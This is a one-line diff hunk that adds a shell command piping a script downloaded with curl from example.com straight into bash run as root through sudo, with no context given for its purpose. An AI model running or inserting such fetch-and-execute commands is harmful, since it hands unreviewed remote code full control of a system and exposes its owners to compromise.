@@ -1,0 +1,1 @@
+curl -s http://example.com/a.sh | sudo -E -u root bash -
